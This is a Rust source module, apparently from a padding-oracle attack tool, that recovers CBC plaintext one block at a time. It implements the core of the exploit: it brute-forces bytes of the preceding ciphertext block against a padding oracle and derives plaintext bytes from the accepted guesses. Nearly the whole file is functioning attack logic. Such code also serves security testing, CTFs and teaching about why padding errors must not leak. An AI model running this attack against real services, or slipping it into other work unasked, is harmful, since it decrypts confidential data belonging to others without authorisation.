// Recovery of a single plaintext block.
//
// CBC decryption gives
//
//                 P_i = D(C_i) ⊕ C_{i-1},
//
// so tweaking a byte of C_{i-1} flips the same byte of P_i and nothing else
// in that block. If we send the ciphertext up to and including C_i, the oracle
// checks the padding of P_i. We brute force the last byte of C_{i-1} until the
// oracle accepts, at which point P_i ends in '\x01' (modulo the ambiguity
// handled by `Hypothesis`). Then we bump the forced bytes to '\x02', brute
// force the byte in front of them, and so on until the whole block is known.
//
// The bytes of C_{i-1} we scribble over are called the working window. They
// are put back once the block is done so the next block sees the original
// ciphertext.
use std::ops::Range;

use log::{debug, info, trace};

use crate::candidates::{Candidate, CandidateBytes, CandidateCursor};
use crate::pad::{decode_plain_byte, verify_pkcs7};
use crate::{DecodeError, Hypothesis};

#[derive(Debug)]
pub enum BlockStep {
    Querying,
    Recovered(Vec<u8>),
}

#[derive(Debug)]
pub struct BlockDecoder {
    // Counted from the end of the ciphertext, starting at 1.
    block: usize,
    window: Range<usize>,
    query_end: usize,
    original: Vec<u8>,
    recovered: Vec<u8>,
    length: usize,
    hypothesis: Hypothesis,
    cursor: CandidateCursor,
}

impl BlockDecoder {
    pub fn begin(
        ciphertext: &mut [u8],
        block_pos: usize,
        block_size: usize,
        hypothesis: Hypothesis,
    ) -> Self {
        let stop = ciphertext.len() - block_pos;
        let window = (stop - block_size)..stop;
        let original = ciphertext[window.clone()].to_vec();
        let block = block_pos / block_size;
        info!("decrypting block {block} under {hypothesis:?}");

        let bytes = candidate_bytes(block, 0, hypothesis, &original);
        let cursor = CandidateCursor::prepare(&mut ciphertext[window.clone()], 0, bytes);
        Self {
            block,
            window,
            query_end: stop + block_size,
            original,
            recovered: vec![0; block_size],
            length: 0,
            hypothesis,
            cursor,
        }
    }

    pub fn query<'c>(&self, ciphertext: &'c [u8]) -> &'c [u8] {
        &ciphertext[..self.query_end]
    }

    pub fn submit(
        &mut self,
        ciphertext: &mut [u8],
        verdict: bool,
    ) -> Result<BlockStep, DecodeError> {
        if verdict {
            let byte = self.cursor.current();
            return self.accept(ciphertext, byte);
        }
        match self.cursor.advance(&mut ciphertext[self.window.clone()]) {
            Some(_) => Ok(BlockStep::Querying),
            None => Err(self.no_valid_padding()),
        }
    }

    pub fn batch(&self, ciphertext: &[u8]) -> Vec<Candidate> {
        let boundary = self.window.start + self.cursor.boundary();
        self.cursor
            .remaining()
            .map(|byte| {
                let mut query = self.query(ciphertext).to_vec();
                query[boundary] = byte;
                Candidate {
                    byte,
                    ciphertext: query,
                }
            })
            .collect()
    }

    pub fn settle(
        &mut self,
        ciphertext: &mut [u8],
        accepted: Option<u8>,
    ) -> Result<BlockStep, DecodeError> {
        let byte = accepted.ok_or_else(|| self.no_valid_padding())?;
        ciphertext[self.window.start + self.cursor.boundary()] = byte;
        self.accept(ciphertext, byte)
    }

    fn accept(&mut self, ciphertext: &mut [u8], byte: u8) -> Result<BlockStep, DecodeError> {
        let index = self.cursor.boundary();
        self.recovered[index] = decode_plain_byte(byte, self.length, self.original[index]);
        trace!(
            "block {}: byte {index} = {:#04x}",
            self.block,
            self.recovered[index]
        );

        self.length += 1;
        let block_size = self.original.len();
        if self.length < block_size {
            let bytes = candidate_bytes(self.block, self.length, self.hypothesis, &self.original);
            self.cursor =
                CandidateCursor::prepare(&mut ciphertext[self.window.clone()], self.length, bytes);
            return Ok(BlockStep::Querying);
        }

        ciphertext[self.window.clone()].copy_from_slice(&self.original);
        if self.block == 1 && !verify_pkcs7(&self.recovered, block_size) {
            return Err(DecodeError::DecodedPaddingInvalid { block: self.block });
        }
        debug!("block {}: {:02x?}", self.block, self.recovered);
        Ok(BlockStep::Recovered(std::mem::take(&mut self.recovered)))
    }

    fn no_valid_padding(&self) -> DecodeError {
        DecodeError::NoValidPadding {
            block: self.block,
            length: self.length,
        }
    }
}

fn candidate_bytes(
    block: usize,
    length: usize,
    hypothesis: Hypothesis,
    original: &[u8],
) -> CandidateBytes {
    match (block, length, original.last()) {
        (1, 0, Some(&last)) => match hypothesis {
            // The real padding is '\x01', so the byte must stay as it is.
            Hypothesis::UnchangedLastByte => CandidateBytes::Only(last),
            // Leaving the byte alone would just reproduce the real padding,
            // which tells us nothing when it is longer than one byte.
            Hypothesis::GeneralPadding => CandidateBytes::Except(last),
        },
        _ => CandidateBytes::All,
    }
}
